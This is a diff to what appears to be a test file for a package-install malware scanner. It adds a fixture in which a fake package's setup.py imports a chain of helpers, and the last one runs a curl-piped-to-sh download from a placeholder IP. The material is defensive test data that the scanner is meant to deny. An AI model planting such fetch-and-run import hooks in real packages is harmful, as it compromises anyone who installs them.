@@ -54,6 +54,14 @@ DENIED: dict[str, dict[str, str]] = {
         "pre_install.py": BEACON,
         "evpkg/__init__.py": "",
     },
+    # Its own pass reads it as a module run on import, as before: the install-time reading
+    # added for a module two helpers away does not lower that one.
+    "module-two-helpers-away-runs-a-download-on-import": {
+        "setup.py": "import _build\n",
+        "_build.py": "import _steps\n",
+        "_steps.py": "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n",
+        "evpkg/__init__.py": "",
+    },
 }
 
 HELD: dict[str, dict[str, str]] = {
